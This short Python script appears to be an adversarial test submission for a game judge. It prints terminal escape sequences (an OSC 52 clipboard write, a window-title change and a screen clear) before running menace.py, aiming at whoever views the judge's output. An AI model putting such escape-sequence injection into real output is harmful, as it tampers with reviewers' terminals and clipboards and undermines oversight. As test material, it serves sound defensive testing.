"""MENACE that prints terminal control sequences where its first game should start: a clipboard
write (OSC 52), a window title and a clear screen, to act on whoever shows the judge's files."""

import runpy

print("\x1b]52;c;aGFja2Vk\x07\x1b]0;owned\x07\x1b[2J", flush=True)
runpy.run_path("menace.py", run_name="__main__")
